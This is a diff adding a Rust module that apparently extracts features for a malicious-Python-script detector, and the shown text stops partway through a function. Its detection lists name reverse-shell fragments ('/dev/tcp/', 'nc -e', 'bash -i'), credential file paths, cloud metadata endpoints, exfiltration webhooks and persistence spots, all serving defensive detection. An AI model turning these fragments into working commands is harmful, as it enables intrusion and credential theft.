@@ -1,0 +1,934 @@
+//! Feature extraction: hashed token / API-call n-grams plus hand-built signals, computed on the
+//! script and on every layer that the bounded decoders reveal.
+//!
+//! Layout of a feature vector: indices `0..N_SIGNALS` are the dense hand-built signals (values in
+//! `[0, 1]`), indices `N_SIGNALS..DIM` are the hashed sparse features (log counts, L2-normalized).
+
+use std::collections::{HashMap, VecDeque};
+use std::sync::OnceLock;
+
+use aho_corasick::AhoCorasick;
+use sha2::{Digest, Sha256};
+
+use crate::decode::{self, LayerKind};
+use crate::lexer::{Lexer, Tok};
+
+/// Version tag of the feature definition. Bump on any change that alters feature values.
+pub const FEATURE_SET_VERSION: &str = "ward-python-features/1";
+/// Number of bits of the hashed feature space.
+pub const HASH_BITS: u32 = 18;
+/// Size of the hashed feature space.
+pub const HASH_DIM: usize = 1 << HASH_BITS;
+
+/// Bounds that keep extraction linear and memory-bounded on hostile input.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Limits {
+    /// Longest input analysed; longer input is cut to its head (3/4) and tail (1/4).
+    pub max_input: usize,
+    /// Deepest decoding nesting followed.
+    pub max_depth: u32,
+    /// Most decoded layers analysed per script.
+    pub max_layers: usize,
+    /// Most decoded bytes in total per script.
+    pub max_decoded: usize,
+    /// Most hashed feature events recorded per script.
+    pub max_events: usize,
+}
+
+impl Default for Limits {
+    fn default() -> Self {
+        Limits {
+            max_input: 1 << 20,
+            max_depth: 5,
+            max_layers: 64,
+            max_decoded: 2 << 20,
+            max_events: 300_000,
+        }
+    }
+}
+
+/// Pattern groups searched (ASCII case-insensitively) in the script and every decoded layer.
+/// The group name is the dense signal name `g:<name>`.
+const GROUPS: &[(&str, &str, &[&str])] = &[
+    ("exec", "runs dynamically built code (exec/eval)", &["exec(", "eval(", "'exec'", "\"exec\"", "execfile(", "exec "]),
+    ("decode", "decodes encoded data (base64/hex/zlib/marshal)", &["b64decode", "b32decode", "b85decode", "a85decode", "unhexlify", "fromhex", "decompress(", "codecs.decode", "rot13", "rot_13", "marshal.loads", "decodebytes", "decodestring", "frombase64string"]),
+    ("socket", "opens a network socket", &["socket.socket", "socket(", "create_connection", ".connect((", "af_inet", "sock_stream"]),
+    ("dup2", "duplicates file descriptors onto stdio (dup2)", &["dup2("]),
+    ("shell", "spawns an interactive shell", &["pty.spawn", "/bin/sh", "/bin/bash", "bash -i", "sh -i", "cmd.exe", "/bin/zsh", "'-i'"]),
+    ("download", "downloads from the network", &["urlopen", "urlretrieve", "requests.get", "wget ", "curl ", "httpx.get", ".download(", "urllib.request", "urllib2", "downloadfile", "downloadstring", "invoke-webrequest"]),
+    ("chmod", "makes a file executable (chmod)", &["chmod", "0o755", "0o777", "0o700", "0755", "0777", "s_ixusr", "s_irwxu", "+x "]),
+    ("run", "runs external commands", &["subprocess", "os.system", "os.popen", "os.exec", "os.spawn", "popen(", "check_output", "check_call", "startfile", "shell=true"]),
+    ("metadata", "contacts the cloud instance-metadata service", &["169.254.169.254", "metadata.google.internal", "100.100.100.200", "fd00:ec2::254", "/computemetadata/", "/latest/meta-data", "/latest/api/token", "iam/security-credentials", "metadata/instance", "metadata/identity"]),
+    ("k8s_token", "reads the Kubernetes service-account token", &["/var/run/secrets/kubernetes.io", "/run/secrets/kubernetes.io", "serviceaccount/token", "/run/secrets/eks.amazonaws.com"]),
+    ("mining", "references cryptocurrency mining (pools, xmrig)", &["stratum+tcp", "stratum+ssl", "stratum2+", "stratum://", "xmrig", "minexmr", "nanopool", "supportxmr", "moneroocean", "2miners", "f2pool", "hashvault", "--donate-level", "cryptonight", "randomx", "nicehash", "ethminer", "cpuminer", "coinhive", "minergate", "--coin", "rx/0"]),
+    ("webhook", "talks to a webhook / paste / tunnel service used for exfiltration", &["discord.com/api/webhooks", "discordapp.com/api/webhooks", "hooks.slack.com", "api.telegram.org/bot", "webhook.site", "pipedream.net", "requestbin", "ngrok", "burpcollaborator", "oastify", "interact.sh", "interactsh", "oast.", "transfer.sh", "pastebin.com", "paste.ee", "hastebin", "requestcatcher", "beeceptor", "canarytokens", "dnslog", "ceye.io", "anonfiles", "file.io", "0x0.st", "termbin", "ptpb", "bashupload", "trycloudflare"]),
+    ("cron", "installs a cron job", &["crontab", "/etc/cron", "/var/spool/cron", "@reboot"]),
+    ("ssh_keys", "touches SSH authorized_keys", &["authorized_keys"]),
+    ("systemd", "installs a system service (systemd/init/rc.local)", &["/etc/systemd/system", "systemctl enable", "systemctl daemon-reload", "/etc/init.d", "rc.local", "[install]", "wantedby="]),
+    ("shellrc", "modifies shell start-up or preload files", &[".bashrc", ".bash_profile", ".zshrc", "ld.so.preload", "/etc/profile", "ld_preload"]),
+    ("creds", "reads credential or secret files", &[".aws/credentials", ".ssh/id_", "id_rsa", "id_ed25519", "/etc/shadow", ".docker/config.json", ".kube/config", ".git-credentials", ".netrc", "login data", "local state", "wallet", "keychain", ".pgpass", "cookies", "aws_secret_access_key", "application_default_credentials", ".npmrc", ".pypirc", "leveldb", "discord/local storage", "passwords", "/etc/passwd", "token"]),
+    ("environ", "collects environment variables", &["os.environ", "environ.items", "environ.copy", "printenv", "getenv("]),
+    ("send", "sends data out (HTTP POST / raw socket / mail)", &["requests.post", ".post(", "sendall(", ".send(", "http.client", "httpconnection", "smtplib", "ftplib", "method='post'", "method=\"post\"", "data=", "sendto("]),
+    ("pipe_shell", "builds a shell pipeline (curl|sh, /dev/tcp, nc -e, nohup)", &["| bash", "|bash", "| sh", "|sh", "/dev/tcp/", "nc -e", "ncat ", "mkfifo", "bash -c", "sh -c", "nohup ", "2>&1 &", ">/dev/null", "> /dev/null"]),
+    ("powershell", "builds a hidden/encoded PowerShell command", &["powershell", "-encodedcommand", "-enc ", "-windowstyle hidden", "-w hidden", "invoke-expression", "iex(", "iex (", "start-process", "-executionpolicy", "bypass"]),
+    ("memfd", "executes from memory (memfd_create / fexecve)", &["memfd_create", "/proc/self/fd", "fexecve", "/proc/self/exe"]),
+    ("tmpdrop", "writes into temporary or hidden locations", &["/tmp/", "/dev/shm", "/var/tmp", "gettempdir", "%temp%", "appdata", "/tmp/."]),
+    ("detach", "detaches or hides the process", &["setsid", "os.fork", "fork()", "prctl", "disown", "creationflags", "create_no_window", "detached_process", "startupinfo", "daemon=true", "start_new_session"]),
+    ("setup", "is a package setup script", &["setup(", "setuptools", "distutils"]),
+    ("install_hook", "overrides install/develop/egg_info commands", &["cmdclass", "install.run", "(install)", "(develop)", "(egg_info)", "(build_py)", "def run(self"]),
+    ("builtins", "reaches builtins indirectly (__import__/getattr/globals)", &["__builtins__", "__import__", "getattr(", "globals()", "import_module", "__dict__["]),
+    ("sysinfo", "collects host identity (user, hostname, public IP)", &["platform.node", "getpass.getuser", "gethostname", "os.getlogin", "uname", "whoami", "ipinfo.io", "ifconfig.me", "api.ipify", "checkip", "icanhazip"]),
+    ("kill_av", "tampers with security tools or history", &["history -c", "bash_history", "unset histfile", "setenforce 0", "iptables -f", "ufw disable", "apparmor", "kill -9", "pkill"]),
+];
+
+/// Dense signals derived from group combinations and literal statistics.
+const COMBOS: &[(&str, &str)] = &[
+    ("c:exec_decoded", "executes decoded/obfuscated data"),
+    ("c:layer_code", "an encoded layer hides code or commands"),
+    ("c:layer_any", "contains an encoded layer that decodes to text"),
+    ("c:revshell", "socket wired to a shell (reverse/bind shell pattern)"),
+    ("c:dl_chmod_exec", "downloads, marks executable and runs a file"),
+    ("c:env_exfil", "sends environment variables out"),
+    ("c:cred_exfil", "reads credentials and sends data out"),
+    ("c:meta_send", "queries instance metadata and sends data out"),
+    ("c:setup_hook_net", "setup script with install hook that uses network/commands"),
+    ("c:setup_exec", "setup script that runs commands or decoded code"),
+    ("c:persist_run", "installs persistence and runs commands"),
+    ("c:detached_run", "runs a detached background command"),
+    ("s:layers", "number of decoded layers"),
+    ("s:depth", "depth of nested encodings"),
+    ("s:entropy", "high-entropy long string literal"),
+    ("s:long_literal", "very long encoded literal"),
+    ("s:frac_encoded", "most of the script is encoded data"),
+    ("s:chr_calls", "many chr() calls building strings"),
+    ("s:obf_idents", "obfuscated identifiers (O0O0/lIlI/_0x style)"),
+    ("s:ip_host", "hard-coded IP address as a network peer"),
+    ("s:ints_layer", "integer lists decode to text"),
+];
+
+/// Number of dense signals.
+pub const N_SIGNALS: usize = GROUPS.len() + COMBOS.len();
+/// Total dimension of a feature vector.
+pub const DIM: usize = N_SIGNALS + HASH_DIM;
+
+/// Name of dense signal `i` (e.g. `g:socket`, `c:revshell`).
+pub fn signal_name(i: usize) -> String {
+    if i < GROUPS.len() {
+        format!("g:{}", GROUPS[i].0)
+    } else {
+        COMBOS
+            .get(i - GROUPS.len())
+            .map_or_else(|| "?".to_string(), |c| c.0.to_string())
+    }
+}
+
+/// Human description of dense signal `i`.
+pub fn signal_description(i: usize) -> &'static str {
+    if i < GROUPS.len() {
+        GROUPS[i].1
+    } else {
+        COMBOS.get(i - GROUPS.len()).map_or("?", |c| c.1)
+    }
+}
+
+fn combo(name: &str) -> usize {
+    GROUPS.len()
+        + COMBOS
+            .iter()
+            .position(|c| c.0 == name)
+            .expect("combo name is a constant")
+}
+
+fn group(name: &str) -> usize {
+    GROUPS
+        .iter()
+        .position(|g| g.0 == name)
+        .expect("group name is a constant")
+}
+
+/// SHA-256 over everything that defines the features: version, hash size, signal names, patterns.
+pub fn feature_set_hash() -> String {
+    let mut h = Sha256::new();
+    h.update(FEATURE_SET_VERSION.as_bytes());
+    h.update(HASH_BITS.to_le_bytes());
+    for (n, _, pats) in GROUPS {
+        h.update(n.as_bytes());
+        for p in *pats {
+            h.update(p.as_bytes());
+            h.update([0]);
+        }
+    }
+    for (n, _) in COMBOS {
+        h.update(n.as_bytes());
+    }
+    let l = Limits::default();
+    h.update(format!("{l:?}").as_bytes());
+    hex::encode(h.finalize())
+}
+
+struct Patterns {
+    ac: AhoCorasick,
+    group_of: Vec<u8>,
+}
+
+fn patterns() -> &'static Patterns {
+    static P: OnceLock<Patterns> = OnceLock::new();
+    P.get_or_init(|| {
+        let mut pats = Vec::new();
+        let mut group_of = Vec::new();
+        for (gi, (_, _, ps)) in GROUPS.iter().enumerate() {
+            for p in *ps {
+                pats.push(*p);
+                group_of.push(gi as u8);
+            }
+        }
+        let ac = AhoCorasick::builder()
+            .ascii_case_insensitive(true)
+            .build(&pats)
+            .expect("static patterns compile");
+        Patterns { ac, group_of }
+    })
+}
+
+fn group_bits(text: &[u8]) -> u64 {
+    let p = patterns();
+    let mut bits = 0u64;
+    for m in p.ac.find_overlapping_iter(text) {
+        bits |= 1u64 << p.group_of[m.pattern().as_usize()];
+    }
+    bits
+}
+
+/// A sparse feature vector, sorted by index.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct FeatureVector {
+    /// Feature indices, ascending, unique.
+    pub idx: Vec<u32>,
+    /// Values, same length as `idx`.
+    pub val: Vec<f32>,
+}
+
+/// Why an input was not analysed as Python.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum NotPython {
+    /// Zero-length input.
+    Empty,
+    /// Binary data (NUL bytes, executable magic, mostly non-text).
+    Binary(String),
+}
+
+impl std::fmt::Display for NotPython {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            NotPython::Empty => write!(f, "empty input"),
+            NotPython::Binary(why) => write!(f, "not Python source: {why}"),
+        }
+    }
+}
+
+/// The result of analysing one script.
+#[derive(Debug, Clone, Default)]
+pub struct Analysis {
+    /// The feature vector (empty when `not_python` is set).
+    pub features: FeatureVector,
+    /// Set when the input is not Python text.
+    pub not_python: Option<NotPython>,
+    /// Number of decoded layers analysed.
+    pub layers: usize,
+    /// Names of the features asked for with [`Extractor::analyze_named`].
+    pub names: HashMap<u32, String>,
+    /// True when the input was cut to `Limits::max_input`.
+    pub truncated: bool,
+}
+
+/// Decides whether bytes look like text at all.
+pub fn sniff_not_python(b: &[u8]) -> Option<NotPython> {
+    if b.is_empty() {
+        return Some(NotPython::Empty);
+    }
+    const MAGICS: &[(&[u8], &str)] = &[
+        (b"\x7fELF", "ELF executable"),
+        (b"MZ", "PE executable"),
+        (b"PK\x03\x04", "zip archive"),
+        (b"\x1f\x8b", "gzip data"),
+        (b"\xca\xfe\xba\xbe", "Mach-O/class file"),
+        (b"\x89PNG", "PNG image"),
+    ];
+    for (m, what) in MAGICS {
+        if b.starts_with(m) {
+            return Some(NotPython::Binary((*what).to_string()));
+        }
+    }
+    let head = &b[..b.len().min(8192)];
+    if head.contains(&0) {
+        return Some(NotPython::Binary("contains NUL bytes".into()));
+    }
+    let ctrl = head
+        .iter()
+        .filter(|&&c| c < 0x20 && !matches!(c, b'\n' | b'\r' | b'\t' | 0x0c))
+        .count();
+    let high_invalid = std::str::from_utf8(head)
+        .map(|_| 0)
+        .unwrap_or_else(|_| String::from_utf8_lossy(head).matches('\u{FFFD}').count());
+    if (ctrl + high_invalid) * 10 > head.len() {
+        return Some(NotPython::Binary("mostly non-text bytes".into()));
+    }
+    None
+}
+
+fn fnv1a(seed: u32, bytes: &[u8]) -> u32 {
+    let mut h = seed;
+    for &b in bytes {
+        h ^= b as u32;
+        h = h.wrapping_mul(0x0100_0193);
+    }
+    h
+}
+
+const FNV_OFFSET: u32 = 0x811c_9dc5;
+
+struct Acc<'w> {
+    events: Vec<u32>,
+    max_events: usize,
+    want: Option<(&'w [u32], HashMap<u32, String>)>,
+    groups: u64,
+    layer_code: bool,
+    layer_any: bool,
+    ints_layer: bool,
+    max_entropy: f32,
+    longest_encoded: usize,
+    encoded_bytes: usize,
+    chr_calls: usize,
+    idents: usize,
+    obf_idents: usize,
+    ip_host: bool,
+}
+
+impl Acc<'_> {
+    fn emit(&mut self, ns: &str, parts: &[&[u8]]) {
+        if self.events.len() >= self.max_events {
+            return;
+        }
+        let mut h = fnv1a(FNV_OFFSET, ns.as_bytes());
+        h = fnv1a(h, b":");
+        for (i, p) in parts.iter().enumerate() {
+            if i > 0 {
+                h = fnv1a(h, b"\x1f");
+            }
+            h = fnv1a(h, p);
+        }
+        let idx = N_SIGNALS as u32 + (h & (HASH_DIM as u32 - 1));
+        self.events.push(idx);
+        if let Some((want, names)) = &mut self.want {
+            if want.contains(&idx) && !names.contains_key(&idx) {
+                let mut s = String::from(ns);
+                s.push(':');
+                for (i, p) in parts.iter().enumerate() {
+                    if i > 0 {
+                        s.push('>');
+                    }
+                    s.push_str(&String::from_utf8_lossy(p));
+                }
+                names.insert(idx, s);
+            }
+        }
+    }
+}
+
+const SUSPICIOUS_IN_LAYER: &[&str] = &[
+    "exec", "socket", "dup2", "shell", "download", "run", "metadata", "k8s_token", "mining",
+    "webhook", "cron", "ssh_keys", "systemd", "creds", "send", "pipe_shell", "powershell", "memfd",
+    "builtins", "decode",
+];
+
+fn lower_into(buf: &mut Vec<u8>, s: &[u8]) {
+    buf.clear();
+    buf.extend(s.iter().map(|c| c.to_ascii_lowercase()));
+}
+
+fn looks_obfuscated_ident(s: &[u8]) -> bool {
+    if s.len() < 6 {
+        return false;
+    }
+    let confusable = s.iter().all(|&c| matches!(c, b'I' | b'l' | b'1' | b'O' | b'0' | b'_' | b'o'));
+    let hexish = s.starts_with(b"_0x") || s.starts_with(b"__0x");
+    confusable || hexish
+}
+
+fn parse_int(n: &[u8]) -> Option<u32> {
+    let s = std::str::from_utf8(n).ok()?.replace('_', "");
+    if let Some(h) = s.strip_prefix("0x").or_else(|| s.strip_prefix("0X")) {
+        u32::from_str_radix(h, 16).ok()
+    } else if let Some(o) = s.strip_prefix("0o").or_else(|| s.strip_prefix("0O")) {
+        u32::from_str_radix(o, 8).ok()
+    } else {
+        s.parse().ok()
+    }
+}
+
+fn is_ipv4(s: &[u8]) -> bool {
+    let parts: Vec<&[u8]> = s.split(|&c| c == b'.').collect();
+    parts.len() == 4
+        && parts
+            .iter()
+            .all(|p| !p.is_empty() && p.len() <= 3 && p.iter().all(|c| c.is_ascii_digit()))
+}
+
+/// Extracts features; cheap to create, reusable, thread-safe.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct Extractor {
+    /// Bounds applied to every input.
+    pub limits: Limits,
+}
+
+struct Pending {
+    text: Vec<u8>,
+    depth: u32,
+}
+
+impl Extractor {
+    /// Creates an extractor with default limits.
+    pub fn new() -> Self {
+        Extractor::default()
+    }
+
+    /// Analyses `bytes`: sniffs for binary data, decodes layers, and computes the features.
+    pub fn analyze(&self, bytes: &[u8]) -> Analysis {
+        self.run(bytes, None)
+    }
+
+    /// Like [`Extractor::analyze`], but also records the readable names of the hashed features
+    /// whose indices are in `want` (used to explain a score).
+    pub fn analyze_named(&self, bytes: &[u8], want: &[u32]) -> Analysis {
+        self.run(bytes, Some(want))
+    }
+
+    fn run(&self, bytes: &[u8], want: Option<&[u32]>) -> Analysis {
+        if let Some(np) = sniff_not_python(bytes) {
+            return Analysis {
+                not_python: Some(np),
+                ..Analysis::default()
+            };
+        }
+        let lim = self.limits;
+        let (input, truncated): (std::borrow::Cow<[u8]>, bool) = if bytes.len() > lim.max_input {
+            let head = lim.max_input / 4 * 3;
+            let tail = lim.max_input - head;
+            let mut v = Vec::with_capacity(lim.max_input + 1);
+            v.extend_from_slice(&bytes[..head]);
+            v.push(b'\n');
+            v.extend_from_slice(&bytes[bytes.len() - tail..]);
+            (v.into(), true)
+        } else {
+            (bytes.into(), false)
+        };
+        let mut acc = Acc {
+            events: Vec::with_capacity(input.len() / 4 + 16),
+            max_events: lim.max_events,
+            want: want.map(|w| (w, HashMap::new())),
+            groups: 0,
+            layer_code: false,
+            layer_any: false,
+            ints_layer: false,
+            max_entropy: 0.0,
+            longest_encoded: 0,
+            encoded_bytes: 0,
+            chr_calls: 0,
+            idents: 0,
+            obf_idents: 0,
+            ip_host: false,
+        };
+        let mut queue: VecDeque<Pending> = VecDeque::new();
+        let mut layers = 0usize;
+        let mut decoded_total = 0usize;
+        let mut max_depth = 0u32;
+        let suspicious_mask: u64 = SUSPICIOUS_IN_LAYER
+            .iter()
+            .fold(0, |m, g| m | (1u64 << group(g)));
+        let mut found: Vec<(Vec<u8>, u32, LayerKind)> = Vec::new();
+        queue.push_back(Pending {
+            text: input.into_owned(),
+            depth: 0,
+        });
+        while let Some(p) = queue.pop_front() {
+            found.clear();
+            let before = acc.groups;
+            acc.groups = 0;
+            self.layer(&p.text, p.depth, &mut acc, &mut |t, d, k, _| {
+                found.push((t, d, k));
+            });
+            let here = acc.groups;
+            acc.groups |= before;
+            if p.depth > 0 {
+                acc.layer_any = true;
+                if here & suspicious_mask != 0 {
+                    acc.layer_code = true;
+                }
+            }
+            for (t, d, k) in found.drain(..) {
+                if d > lim.max_depth || layers >= lim.max_layers {
+                    continue;
+                }
+                if decoded_total + t.len() > lim.max_decoded {
+                    continue;
+                }
+                decoded_total += t.len();
+                layers += 1;
+                max_depth = max_depth.max(d);
+                if k == LayerKind::CharCodes {
+                    acc.ints_layer = true;
+                }
+                acc.emit("layer", &[k.name().as_bytes()]);
+                queue.push_back(Pending { text: t, depth: d });
+            }
+        }
+        // Dense signals.
+        let mut dense = [0f32; N_SIGNALS];
+        for (i, d) in dense.iter_mut().enumerate().take(GROUPS.len()) {
+            if acc.groups & (1u64 << i) != 0 {
+                *d = 1.0;
+            }
+        }
+        let g = |n: &str| acc.groups & (1u64 << group(n)) != 0;
+        let b = |x: bool| if x { 1.0 } else { 0.0 };
+        let set = |d: &mut [f32; N_SIGNALS], n: &str, v: f32| d[combo(n)] = v.clamp(0.0, 1.0);
+        set(&mut dense, "c:exec_decoded", b(g("exec") && (g("decode") || acc.layer_any)));
+        set(&mut dense, "c:layer_code", b(acc.layer_code));
+        set(&mut dense, "c:layer_any", b(acc.layer_any));
+        set(&mut dense, "c:revshell", b(g("socket") && (g("dup2") || g("shell")) && (g("run") || g("dup2") || g("shell"))));
+        set(&mut dense, "c:dl_chmod_exec", b(g("download") && g("chmod") && (g("run") || g("exec"))));
+        set(&mut dense, "c:env_exfil", b(g("environ") && (g("send") || g("webhook"))));
+        set(&mut dense, "c:cred_exfil", b(g("creds") && (g("send") || g("webhook"))));
+        set(&mut dense, "c:meta_send", b((g("metadata") || g("k8s_token")) && (g("send") || g("webhook") || g("socket"))));
+        set(&mut dense, "c:setup_hook_net", b(g("setup") && g("install_hook") && (g("download") || g("send") || g("run") || g("socket"))));
+        set(&mut dense, "c:setup_exec", b(g("setup") && (g("exec") || g("powershell") || g("pipe_shell"))));
+        set(&mut dense, "c:persist_run", b((g("cron") || g("systemd") || g("ssh_keys") || g("shellrc")) && (g("run") || g("download"))));
+        set(&mut dense, "c:detached_run", b(g("detach") && g("run")));
+        set(&mut dense, "s:layers", layers as f32 / 4.0);
+        set(&mut dense, "s:depth", max_depth as f32 / 3.0);
+        set(&mut dense, "s:entropy", (acc.max_entropy - 4.5) / 1.5);
+        set(
+            &mut dense,
+            "s:long_literal",
+            if acc.longest_encoded > 0 {
+                ((acc.longest_encoded as f32).log2() - 6.0) / 10.0
+            } else {
+                0.0
+            },
+        );
+        let n = bytes.len().min(lim.max_input).max(1);
+        set(&mut dense, "s:frac_encoded", acc.encoded_bytes as f32 / n as f32);
+        set(&mut dense, "s:chr_calls", acc.chr_calls as f32 / 50.0);
+        set(
+            &mut dense,
+            "s:obf_idents",
+            if acc.idents >= 10 {
+                acc.obf_idents as f32 / acc.idents as f32 * 4.0
+            } else {
+                0.0
+            },
+        );
+        set(&mut dense, "s:ip_host", b(acc.ip_host));
+        set(&mut dense, "s:ints_layer", b(acc.ints_layer));
+
+        // Sparse part: log counts, L2-normalized.
+        let mut ev = std::mem::take(&mut acc.events);
+        ev.sort_unstable();
+        let mut idx = Vec::with_capacity(N_SIGNALS + ev.len() / 2);
+        let mut val = Vec::with_capacity(idx.capacity());
+        for (i, &v) in dense.iter().enumerate() {
+            if v != 0.0 {
+                idx.push(i as u32);
+                val.push(v);
+            }
+        }
+        let dense_n = idx.len();
+        let mut i = 0;
+        while i < ev.len() {
+            let mut j = i;
+            while j < ev.len() && ev[j] == ev[i] {
+                j += 1;
+            }
+            idx.push(ev[i]);
+            val.push(1.0 + ((j - i) as f32).ln());
+            i = j;
+        }
+        let norm = val[dense_n..].iter().map(|v| v * v).sum::<f32>().sqrt();
+        if norm > 0.0 {
+            for v in &mut val[dense_n..] {
+                *v /= norm;
+            }
+        }
+        let names = acc.want.take().map(|(_, n)| n).unwrap_or_default();
+        Analysis {
+            features: FeatureVector { idx, val },
+            not_python: None,
+            layers,
+            names,
+            truncated,
+        }
+    }
+
+    /// Features of one text layer; calls `found` for every decodable literal.
+    fn layer(
+        &self,
+        text: &[u8],
+        depth: u32,
+        acc: &mut Acc,
+        found: &mut dyn FnMut(Vec<u8>, u32, LayerKind, &mut Acc),
+    ) {
+        acc.groups |= group_bits(text);
+        let max_out = self.limits.max_decoded;
+        // A layer that is itself one bare encoded blob (base64 of base64 ...).
+        if depth > 0 {
+            let t = text.trim_ascii();
+            if t.len() >= decode::MIN_ENCODED_LEN && !t.contains(&b' ') {
+                if let Some((d, k)) = decode::decode_literal(t, max_out) {
+                    found(d, depth + 1, k, acc);
+                }
+            }
+        }
+        let toks: Vec<Tok> = Lexer::new(text).collect();
+        let mut low = Vec::with_capacity(64);
+        let mut low2 = Vec::with_capacity(64);
+        let mut prev_call: Vec<u8> = Vec::new();
+        let mut paren = 0i32;
+        let mut chr_buf: Vec<u8> = Vec::new();
+        let mut int_buf: Vec<u8> = Vec::new();
+        let mut str_buf: Vec<u8> = Vec::new();
+        let mut str_open = false;
+        let mut str_is_bytes = false;
+        let flush_codes = |buf: &mut Vec<u8>, acc: &mut Acc, found: &mut dyn FnMut(Vec<u8>, u32, LayerKind, &mut Acc)| {
+            if buf.len() >= 8 && decode::printable_ratio(buf) >= 0.85 {
+                found(std::mem::take(buf), depth + 1, LayerKind::CharCodes, acc);
+            }
+            buf.clear();
+        };
+        let mut i = 0;
+        while i < toks.len() {
+            let tok = &toks[i];
+            // String concatenation: 'a' 'b' or 'a' + 'b'.
+            let is_str = matches!(tok, Tok::Str { .. });
+            let is_plus = matches!(tok, Tok::Op(b'+'));
+            if str_open && !is_str && !(is_plus && matches!(toks.get(i + 1), Some(Tok::Str { .. }))) {
+                self.string(&str_buf, str_is_bytes, depth, acc, found);
+                str_buf.clear();
+                str_open = false;
+            }
+            if !matches!(tok, Tok::Num(_) | Tok::Op(b',') | Tok::Op(b'[') | Tok::Op(b']') | Tok::Op(b'(') | Tok::Op(b')')) {
+                flush_codes(&mut int_buf, acc, found);
+            }
+            match tok {
+                Tok::Str { body, bytes } => {
+                    flush_codes(&mut chr_buf, acc, found);
+                    if str_buf.len() < self.limits.max_input {
+                        str_buf.extend_from_slice(body);
+                    }
+                    str_is_bytes = *bytes;
+                    str_open = true;
+                }
+                Tok::Op(c) => {
+                    match c {
+                        b'(' | b'[' | b'{' => paren += 1,
+                        b')' | b']' | b'}' => paren = (paren - 1).max(0),
+                        _ => {}
+                    }
+                }
+                Tok::Num(n) => {
+                    if let Some(v) = parse_int(n) {
+                        if v < 256 && matches!(toks.get(i.wrapping_sub(1)), Some(Tok::Op(b',' | b'[' | b'('))) {
+                            int_buf.push(v as u8);
+                        }
+                    }
+                }
+                Tok::Ident(id) => {
+                    // chr(N)
+                    if *id == b"chr" {
+                        if let (Some(Tok::Op(b'(')), Some(Tok::Num(n)), Some(Tok::Op(b')'))) =
+                            (toks.get(i + 1), toks.get(i + 2), toks.get(i + 3))
+                        {
+                            acc.chr_calls += 1;
+                            if let Some(ch) = parse_int(n).and_then(char::from_u32) {
+                                let mut b4 = [0u8; 4];
+                                chr_buf.extend_from_slice(ch.encode_utf8(&mut b4).as_bytes());
+                            }
+                            i += 4;
+                            continue;
+                        }
+                    } else if !matches!(&id[..], b"join" | b"for" | b"in" | b"c" | b"x" | b"i") {
+                        flush_codes(&mut chr_buf, acc, found);
+                    }
+                    // Dotted chain a.b.c
+                    let mut j = i;
+                    let mut parts: Vec<&[u8]> = vec![id];
+                    while let (Some(Tok::Op(b'.')), Some(Tok::Ident(n))) = (toks.get(j + 1), toks.get(j + 2)) {
+                        parts.push(n);
+                        j += 2;
+                        if parts.len() > 8 {
+                            break;
+                        }
+                    }
+                    acc.idents += parts.len();
+                    for p in &parts {
+                        if looks_obfuscated_ident(p) {
+                            acc.obf_idents += 1;
+                        }
+                        if p.len() <= 32 {
+                            lower_into(&mut low, p);
+                            acc.emit("n", &[&low]);
+                        }
+                    }
+                    let first = parts[0];
+                    if first == b"import" || first == b"from" {
+                        // import a.b, c  /  from a.b import x, y
+                        let mut k = i + 1;
+                        let mut module: Vec<u8> = Vec::new();
+                        let mut after_import = first == b"import";
+                        while k < toks.len() && k < i + 40 {
+                            match &toks[k] {
+                                Tok::Ident(n) if *n == b"import" => after_import = true,
+                                Tok::Ident(n) if *n == b"as" => {
+                                    k += 1;
+                                }
+                                Tok::Ident(n) => {
+                                    lower_into(&mut low, n);
+                                    if first == b"from" && !after_import {
+                                        if module.is_empty() {
+                                            module = low.clone();
+                                            acc.emit("imp", &[&module]);
+                                        }
+                                    } else if first == b"from" {
+                                        acc.emit("d", &[&module, &low]);
+                                    } else if !matches!(toks.get(k - 1), Some(Tok::Op(b'.'))) {
+                                        acc.emit("imp", &[&low]);
+                                    }
+                                }
+                                Tok::Op(b'.' | b',' | b'(' | b')' | b'*') => {}
+                                _ => break,
+                            }
+                            k += 1;
+                        }
+                    }
+                    let last2: Vec<u8> = {
+                        let s = if parts.len() >= 2 { &parts[parts.len() - 2..] } else { &parts[..] };
+                        let mut v = Vec::new();
+                        for (n, p) in s.iter().enumerate() {
+                            if n > 0 {
+                                v.push(b'.');
+                            }
+                            v.extend(p.iter().take(32).map(|c| c.to_ascii_lowercase()));
+                        }
+                        v
+                    };
+                    if parts.len() >= 2 {
+                        acc.emit("d", &[&last2]);
+                    }
+                    match (toks.get(j + 1), toks.get(j + 2), toks.get(j + 3)) {
+                        (Some(Tok::Op(b'(')), _, _) => {
+                            acc.emit("c", &[&last2]);
+                            if !prev_call.is_empty() {
+                                acc.emit("cc", &[&prev_call, &last2]);
+                            }
+                            prev_call = last2;
+                        }
+                        (Some(Tok::Op(b'=')), nxt, _) if paren > 0 && !matches!(nxt, Some(Tok::Op(b'='))) => {
+                            lower_into(&mut low, parts[parts.len() - 1]);
+                            acc.emit("kw", &[&low]);
+                            if let Some(Tok::Ident(v)) = nxt {
+                                if v.len() <= 16 {
+                                    lower_into(&mut low2, v);
+                                    acc.emit("kwv", &[&low, &low2]);
+                                }
+                            }
+                        }
+                        _ => {}
+                    }
+                    i = j + 1;
+                    continue;
+                }
+            }
+            i += 1;
+        }
+        if str_open {
+            self.string(&str_buf, str_is_bytes, depth, acc, found);
+        }
+        flush_codes(&mut chr_buf, acc, found);
+        flush_codes(&mut int_buf, acc, found);
+    }
+
+    fn string(
+        &self,
+        s: &[u8],
+        _is_bytes: bool,
+        depth: u32,
+        acc: &mut Acc,
+        found: &mut dyn FnMut(Vec<u8>, u32, LayerKind, &mut Acc),
+    ) {
+        if s.len() >= 64 {
+            let e = decode::entropy(&s[..s.len().min(4096)]);
+            if e > acc.max_entropy {
+                acc.max_entropy = e;
+            }
+        }
+        if s.len() >= decode::MIN_ENCODED_LEN {
+            let enc = decode::looks_base64(s) || decode::looks_hex(s);
+            if enc {
+                acc.longest_encoded = acc.longest_encoded.max(s.len());
+                acc.encoded_bytes += s.len();
+                let bucket = (usize::BITS - s.len().leading_zeros()).min(24);
+                acc.emit("enc", &[format!("len2^{bucket}").as_bytes()]);
+                if let Some((d, k)) = decode::decode_literal(s, self.limits.max_decoded) {
+                    found(d, depth + 1, k, acc);
+                }
+                return;
+            }
+            // Text that contains code (escaped code, exec strings): analyse as a layer too.
